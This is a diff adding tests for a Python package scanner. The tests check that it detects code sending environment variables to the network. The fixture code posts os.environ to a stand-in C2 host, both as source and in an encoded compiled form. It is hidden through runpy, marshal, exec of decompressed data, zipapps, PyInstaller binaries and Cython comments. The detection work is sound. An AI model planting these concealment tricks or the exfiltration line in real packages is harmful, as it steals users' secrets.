@@ -1,0 +1,170 @@
+import { deflateSync, gzipSync, inflateSync } from 'node:zlib';
+import type { AnalysisResult } from '@weir/model';
+import { zip } from '@weir/testkit/archive';
+import { expect, test } from 'vitest';
+import { analyzeArtifact } from '../analyze.ts';
+import { createMemoryView } from '../memory-view.ts';
+
+const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
+/** What CPython 3.12 compiles `SEND` to. */
+const COMPILED = inflateSync(
+  Buffer.from(
+    'eNo7zcvLxYAEkpE5bFD6cwyQmM6QwpDCmMMQBaEZoxiZGFIZs1gYMEAKE1CGOZUhiwNTbjUjhF7DvJoJwmJkqGTUZHkJYvpViWSUlBQUW+nrJxvpladmFumVpBaXaDLeYklJLEnUZL3FlF98i6MotbAUKFx8i6Ugv7gEKJeZXHKLPTWvLLMoP28lw2eQUb/Y8svz9Aoqf3HY5OanlOak2hVxgy1jYChWAhIfmBkZGe8zCN9g4G3gaOdt5L3Ap7LSZAPTdq6NXJe1ra8x2BRxApUBACdkO94=',
+    'base64',
+  ),
+);
+/** As `marshal.dumps` writes it, without the header of a file. */
+const MARSHALLED = COMPILED.subarray(16);
+const FILE = "os.path.join(os.path.dirname(__file__), 'tables.dat')";
+
+/** The result for a wheel of these files. */
+async function analyze(files: Readonly<Record<string, string | Uint8Array>>): Promise<AnalysisResult> {
+  await using view = createMemoryView({
+    'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
+    ...files,
+  });
+  return analyzeArtifact(
+    view,
+    { ecosystem: 'pypi', filename: 'own-1.0-py3-none-any.whl', context: null },
+    {
+      layout: 'directory',
+      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
+      rulesetVersion: 'test',
+      now: () => performance.now(),
+    },
+  );
+}
+
+/** Where the payload of a wheel is seen. */
+async function seenIn(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
+  const { findings } = await analyze(files);
+  return findings
+    .filter(({ rule }) => rule.startsWith('env-to-network/'))
+    .map(({ stage, location }) => `${stage} ${location?.file}:${location?.line}`);
+}
+
+test.each([
+  ['runpy.run_path', `import os, runpy\nrunpy.run_path(${FILE})\n`, COMPILED],
+  ['runpy.run_path, of a source', `import os, runpy\nrunpy.run_path(${FILE})\n`, Buffer.from(SEND)],
+  [
+    'a loader of compiled files',
+    `import os, importlib.machinery as m\nm.SourcelessFileLoader('x', ${FILE}).load_module()\n`,
+    COMPILED,
+  ],
+  ['imp.load_compiled', `import os, imp\nimp.load_compiled('x', ${FILE})\n`, COMPILED],
+  ['marshal', `import os, marshal\nexec(marshal.loads(open(${FILE}, 'rb').read()[16:]))\n`, COMPILED],
+  [
+    'marshal, without a header',
+    `import os, marshal\nexec(marshal.loads(open(${FILE}, 'rb').read()))\n`,
+    MARSHALLED,
+  ],
+  [
+    'marshal, of packed code',
+    `import os, marshal, zlib\nexec(marshal.loads(zlib.decompress(open(${FILE}, 'rb').read())))\n`,
+    deflateSync(MARSHALLED),
+  ],
+  [
+    'text that is packed twice',
+    `import os, gzip, base64\nexec(gzip.decompress(base64.b64decode(open(${FILE}).read())))\n`,
+    Buffer.from(gzipSync(SEND).toString('base64')),
+  ],
+])('a data file that code runs is code: %s', async (_how, text, data) => {
+  const files = { 'own/__init__.py': text, 'own/tables.dat': data };
+
+  expect(await seenIn(files)).toEqual(['import own/tables.dat:2']);
+});
+
+test('data that such code only names stays data', async () => {
+  const text = `import os, runpy\nrunpy.run_path('own/run.py')\nopen('tables.json')\n`;
+  const { findings, skipped } = await analyze({
+    'own/__init__.py': text,
+    'own/run.py': '',
+    'own/tables.json': '{"exec": 1}',
+  });
+
+  expect(findings.filter(({ location }) => location?.file === 'own/tables.json')).toEqual([]);
+  expect(skipped).toEqual([]);
+});
+
+test('a compiled file of Python 2 under its other name is a module', async () => {
+  const files = { 'own/__init__.py': 'from . import core\n', 'own/core.pyo': COMPILED };
+
+  expect(await seenIn(files)).toEqual(['import own/core.pyo:2']);
+});
+
+const STARTS = `import os, subprocess, sys\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'app.pyz')])\n`;
+
+test.each([
+  ['a source', '__main__.py', SEND],
+  [
+    'a source that asks whether it is the program',
+    '__main__.py',
+    `if __name__ == '__main__':\n    ${SEND.replace('\n', '\n    ')}`,
+  ],
+  ['compiled', '__main__.pyc', COMPILED],
+] as const)('a program that is an archive and is started: %s', async (_how, inner, body) => {
+  const files = { 'own/__init__.py': STARTS, 'own/app.pyz': zip().file(inner, body).build() };
+
+  expect((await seenIn(files))[0]).toMatch(/^import own\/app\.pyz!\/__main__\.pyc?:[23]$/);
+});
+
+/** A program with an archive of PyInstaller behind it, of one script. */
+function frozen(code: Uint8Array): Buffer {
+  const int32 = (value: number): Buffer => {
+    const out = Buffer.alloc(4);
+    out.writeUInt32BE(value);
+    return out;
+  };
+  const packed = deflateSync(code);
+  const row = Buffer.concat([
+    int32(26),
+    int32(0),
+    int32(packed.length),
+    int32(code.length),
+    Buffer.from('\x01spayload\0'),
+  ]);
+  return Buffer.concat([
+    Buffer.from('\x7fELF\x02\x01\x01'),
+    Buffer.alloc(64),
+    packed,
+    row,
+    Buffer.from('MEI\x0c\x0b\x0a\x0b\x0e', 'latin1'),
+    ...[packed.length + row.length + 88, packed.length, row.length, 312].map(int32),
+    Buffer.alloc(64),
+  ]);
+}
+
+test('a program of PyInstaller that is started is read', async () => {
+  const files = {
+    'own/__init__.py': `import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper')])\n`,
+    'own/helper': frozen(MARSHALLED),
+  };
+
+  expect(await seenIn(files)).toEqual(['import own/helper!/payload.pyc:2']);
+});
+
+test('C that Cython wrote is read as its source', async () => {
+  const rows = SEND.trimEnd().split('\n');
+  const comments = rows.map(
+    (row, index) => `  /* "own/core.pyx":${index + 1}\n * ${row}             # <<<<<<<<<<<<<<\n */\n`,
+  );
+  const files = {
+    'own/__init__.py': 'from .core import run\n',
+    'own/core.c': `/* Generated by Cython 3.0.0 */\n${comments.join('')}`,
+  };
+
+  expect(await seenIn(files)).toEqual(['import own/core.c:2']);
+});
+
+test.each([
+  ['of another version', Buffer.concat([Buffer.from([0, 1, 0x0d, 0x0a]), COMPILED.subarray(4)])],
+  ['that is cut off', COMPILED.subarray(0, 60)],
+])('compiled code %s in an archive is told', async (_what, body) => {
+  const files = { 'own/__init__.py': STARTS, 'own/app.pyz': zip().file('__main__.pyc', body).build() };
+  const { skipped, judgement } = await analyze(files);
+
+  expect(skipped.map(({ file, reason }) => [file, reason.split(':')[0]])).toEqual([
+    ['own/app.pyz!/__main__.pyc', 'compiled Python cannot be read'],
+  ]);
+  expect(judgement.complete).toBe(false);
+});
